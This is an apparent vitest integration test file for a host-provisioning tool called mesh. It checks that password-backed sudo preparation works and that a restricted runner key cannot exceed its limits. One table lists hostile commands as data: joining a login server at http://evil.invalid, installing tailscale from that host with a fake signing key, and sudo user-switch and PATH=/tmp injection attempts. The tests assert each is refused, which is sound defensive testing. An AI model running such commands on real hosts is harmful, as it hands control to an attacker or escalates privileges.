// A host whose sudo asks for a password, prepared once by a person: what the runner's key can do then, and what it cannot.

import { afterAll, beforeAll, expect, test } from "vitest";
import type { Lab } from "../../lab/nspawn/index.ts";
import { askPassword, asSteve, files, installed, password, prepare } from "./prepared.ts";
import { describeLab, freshHosts, mesh, openLab, sh } from "./support.ts";

describeLab("mesh remote prepare", () => {
  let lab: Lab;

  beforeAll(async () => {
    lab = await openLab();
    await freshHosts(lab, "h1");
    await askPassword(lab, "h1");
  });

  afterAll(() => lab?.heal("sudo", "h1"));

  const steve = (argv: string) => asSteve(lab, "h1", `(${argv}) </dev/null 2>/dev/null`);

  test("before it, a plan says what to type; a wrong password changes nothing", async () => {
    const plan = await mesh(["-i", lab.inventory, "plan", "h1"]);
    expect(plan.stdout).toMatch(/ACCESS_PASSWORD \(h1, detect\)[\s\S]*next: mesh -i \S+ remote prepare /);
    const wrong = await prepare(lab, "h1", [], "guess");
    expect([wrong.code, wrong.said]).toEqual([1, expect.stringContaining("sudo did not take the password")]);
    expect(await sh(lab, "h1", "ls -d /etc/mesh /usr/local/lib/mesh 2>/dev/null || true")).toBe("");
  });

  test("with the password once, the host is provisioned, and sudo still asks for everything else", async () => {
    const run = await prepare(lab, "h1");
    expect(run.code, run.said).toBe(0);
    expect(run.said).not.toContain(password);
    const apply = await mesh(["-i", lab.inventory, "apply", "--yes", "h1"]);
    expect(apply.code, apply.stdout).toBe(0);
    expect((await steve("sudo -n /bin/sh -c id")).code).toBe(1);
    expect(await sh(lab, "h1", `stat -c '%U %a' ${files}`)).toBe("root 644\nroot 755\nroot 440\n");
  });

  test.each([
    ["another login server", "echo hskey-auth-x | INSTALLED join --login-server http://evil.invalid --hostname h1"],
    [
      "another source",
      `INSTALLED install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key ${"A".repeat(40)}`,
    ],
    ["another user's Syncthing", "INSTALLED install-syncthing --user root --gui-port 8384"],
    ["a verb of preparing", "INSTALLED prepare --undo"],
    ["an option of sudo", "sudo -n -u steve2 /usr/local/lib/mesh/mesh-host ab version"],
    ["a variable for the installed program", "sudo -n PATH=/tmp /usr/local/lib/mesh/mesh-host ab repair --start"],
  ])("with the runner's key, %s is refused", async (_, argv) => {
    const { code, stdout } = await steve(argv.replace("INSTALLED", `sudo -n ${installed} ab`));
    expect(code, stdout).not.toBe(0);
    expect(await sh(lab, "h1", "test -e /etc/sudoers.d/mesh && tailscale debug prefs")).not.toContain("evil");
  });

  test("an installed program of another release is said, a person is needed, and prepare again mends it", async () => {
    await sh(
      lab,
      "h1",
      "sed -i 's/^mesh_program_version=.*/mesh_program_version=0.0.1+old/' /usr/local/lib/mesh/mesh-host",
    );
    await sh(lab, "h1", "tailscale down");
    const plan = await mesh(["-i", lab.inventory, "plan", "h1"]);
    expect([plan.code, plan.stdout]).toEqual([3, expect.stringMatching(/mesh -i \S+ remote prepare/)]);
    expect((await prepare(lab, "h1")).code).toBe(0);
    expect((await mesh(["-i", lab.inventory, "apply", "--yes", "h1"])).code).toBe(0);
  });

  test.each([
    ["asks a password for all else", ""],
    ["forbids all else", "Defaults:steve !authenticate"],
  ])("where sudo allows the installed program and %s, plan, apply and status work", async (_, line) => {
    await sh(lab, "h1", `echo '${line}' >/etc/sudoers.d/lab; tailscale down; systemctl stop syncthing@steve`);
    try {
      expect((await steve("sudo -n true")).code).toBe(1);
      const plan = await mesh(["-i", lab.inventory, "plan", "--detailed-exitcode", "h1"]);
      expect(plan.code, plan.stdout).toBe(2);
      const apply = await mesh(["-i", lab.inventory, "apply", "--yes", "h1"]);
      expect(apply.code, apply.stdout).toBe(0);
      const status = await mesh(["-i", lab.inventory, "status", "--json", "h1"]);
      expect([status.code, status.json().hosts[0].well], status.stdout).toEqual([0, true]);
    } finally {
      await lab.fault("sudo", "h1");
    }
  });

  test("--undo takes everything away", async () => {
    const run = await prepare(lab, "h1", ["--undo"]);
    expect(run.code, run.said).toBe(0);
    expect(await sh(lab, "h1", "ls -d /etc/mesh /usr/local/lib/mesh /etc/sudoers.d/mesh 2>/dev/null || true")).toBe("");
    expect((await steve(`sudo -n ${installed} ab version`)).code).toBe(1);
  });
});
